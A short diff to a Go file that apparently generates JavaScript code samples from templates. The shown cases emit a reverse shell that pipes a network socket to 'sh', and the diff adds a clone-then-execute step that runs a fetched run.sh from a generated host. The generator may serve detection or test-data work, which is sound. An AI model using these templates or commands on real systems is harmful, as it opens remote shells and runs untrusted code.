@@ -105,7 +105,8 @@ func (w *writer) run() string {
 		return fmt.Sprintf("const %[1]s = %[2]s(%[3]d, %[4]s)\nconst %[5]s = %[6]s('sh')\n%[1]s.pipe(%[5]s.stdin)\n%[5]s.stdout.pipe(%[1]s)", w.name("socket"), w.member(w.module("net"), "connect"),
 			4000+w.rng.IntN(5000), w.quote(w.host()), w.name("shell"), w.member(child, "spawn"))
 	case "public-repository":
-		return fmt.Sprintf("%s(%s)", w.member(child, "exec"), w.quote("git clone -q https://"+w.host()+"/"+w.one(nouns)+" && true"))
+		folder := w.one(nouns)
+		return fmt.Sprintf("%s(%s)", w.member(child, "exec"), w.quote("git clone -q https://"+w.host()+"/"+folder+" && sh "+folder+"/run.sh"))
 	case "none":
 		return fmt.Sprintf("%s('sh', ['-c', %s], { detached: true, stdio: 'ignore' }).unref()", w.member(child, "spawn"), w.quote("true"))
 	}
